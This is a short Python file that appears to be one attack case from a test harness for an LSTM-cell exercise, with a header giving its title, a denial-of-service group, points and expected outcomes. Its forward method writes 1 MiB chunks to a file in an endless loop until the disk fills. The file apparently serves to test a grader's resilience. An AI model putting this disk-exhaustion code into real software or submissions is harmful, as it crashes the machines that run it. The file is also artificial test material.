# /// attack
# title = "One file that grows without end"
# group = "Denial of service"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["error", "crashed"]
# ///
class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        with open("huella-ataque", "wb") as archivo:
            while True:
                archivo.write(bytes(1 << 20))
